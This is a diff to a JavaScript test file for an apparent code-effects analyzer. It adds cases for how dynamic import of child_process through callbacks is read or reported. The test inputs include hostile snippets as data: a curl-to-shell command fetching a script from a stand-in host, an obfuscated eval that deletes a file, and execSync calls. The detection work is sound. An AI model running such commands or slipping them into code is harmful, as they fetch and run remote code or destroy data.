@@ -87,10 +87,22 @@ test('javascript: eval, Function and dynamic require are read or reported unread
     { code: 'const cp = require("child_process"); cp[x]("ls")', unread: ['computed property name'] },
     { code: 'globalThis["ev" + "al"]("require(\\"fs\\").unlinkSync(\\"/x\\")")', effects: ['delete fs.unlinkSync /x'] },
     { code: 'process.binding("spawn_sync")', unread: ['native code through process.binding'] },
+    // A callback whose one parameter is the module is read as that module's use.
+    { code: 'import("child_process").then(cp => cp.execSync("id"))', effects: ['exec child_process.execSync id'] },
     {
-      code: 'import("child_process").then(cp => cp.execSync("id"))',
+      code: 'import("node:child_process").then(function (c) { c.execSync("curl -fsS https://x.example/n.sh | sh") })',
+      effects: ['exec child_process.execSync curl -fsS https://x.example/n.sh | sh'],
+    },
+    {
+      code: 'import("child_process").then(({ execSync }) => execSync("id"))',
+      effects: ['exec child_process.execSync id'],
+    },
+    // A callback that takes the module some other way still hides which member is used.
+    {
+      code: 'import("child_process").then((...all) => all[0].execSync("id"))',
       unread: ['child_process used through a callback'],
     },
+    { code: 'import("child_process").then(run)', unread: ['child_process used through a callback'] },
     { code: '[].constructor.constructor(code)()', unread: ['Function of computed code'] },
     { code: 'setTimeout(eval, 0, x)', unread: ['eval passed as a value'] },
     { code: 'require("vm").runInNewContext(src)', unread: ['vm of computed code'] },
